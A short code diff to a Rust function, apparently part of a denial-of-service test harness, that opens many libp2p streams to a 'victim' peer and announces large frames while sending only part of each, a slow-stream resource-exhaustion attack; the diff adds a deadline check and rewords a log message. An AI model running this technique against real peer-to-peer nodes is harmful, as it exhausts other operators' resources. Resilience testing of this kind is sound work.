@@ -245,6 +245,9 @@ async fn slow_streams(control: &libp2p_stream::Control, victim: PeerId) -> (Vec<
     let chunk = vec![0x0au8; 64 << 10];
     let deadline = Instant::now() + ATTACK_TIME / 2;
     for _ in 0..SLOW_STREAMS {
+        if Instant::now() > deadline {
+            break;
+        }
         let Ok(Ok(mut stream)) =
             tokio::time::timeout(Duration::from_secs(2), control.clone().open_stream(victim, BLOCKEXC)).await
         else {
@@ -273,7 +276,10 @@ async fn slow_streams(control: &libp2p_stream::Control, victim: PeerId) -> (Vec<
         streams.push(stream);
     }
     let line = format!(
-        "slow streams: {opened} opened, {} MiB of unfinished 64 MiB frames sent, {stalled} stalled or reset",
+        "slow streams: {opened} opened, each announcing a {} MiB frame and sending at most {} MiB of it ({} MiB in \
+         all), {stalled} stalled or reset",
+        SLOW_STREAM_ANNOUNCED >> 20,
+        SLOW_STREAM_SENT >> 20,
         bytes >> 20
     );
     (streams, line)
